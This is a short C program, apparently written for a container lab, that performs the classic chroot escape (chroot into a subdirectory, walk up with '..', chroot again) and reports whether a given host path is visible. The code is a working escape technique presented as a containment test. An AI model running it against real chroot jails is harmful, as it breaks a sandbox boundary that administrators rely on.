/*
 * The classic chroot escape, for the chroot stage's lab.
 *
 * chroot(2) changes only where path lookup starts; it does not move the current working
 * directory. A root process can therefore chroot into a subdirectory while standing
 * outside it, walk up with "..", and chroot again at the real top (chroot(2), NOTES).
 *
 *   escape PATH   prints "ESCAPED: PATH exists" if PATH (a host path) can be seen after
 *                 the escape, and "CONTAINED" otherwise. Exit status 0 either way.
 *
 * Built static, so it runs inside a busybox rootfs:  gcc -static -O2 -o escape escape.c
 */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	struct stat st;
	int i;

	if (argc != 2) {
		fprintf(stderr, "usage: escape HOST-PATH\n");
		return 2;
	}
	if (mkdir(".escape", 0700) != 0 && errno != EEXIST) {
		perror("mkdir .escape");
		return 1;
	}
	/* A new root below us; our working directory is now above the root. */
	if (chroot(".escape") != 0) {
		perror("chroot .escape");
		return 1;
	}
	/* Walk up: ".." at the real top of the mount tree stays there. */
	for (i = 0; i < 256; i++)
		if (chdir("..") != 0)
			break;
	if (chroot(".") != 0) {
		perror("chroot .");
		return 1;
	}
	if (stat(argv[1], &st) == 0)
		printf("ESCAPED: %s exists\n", argv[1]);
	else
		printf("CONTAINED: %s: %s\n", argv[1], strerror(errno));
	return 0;
}
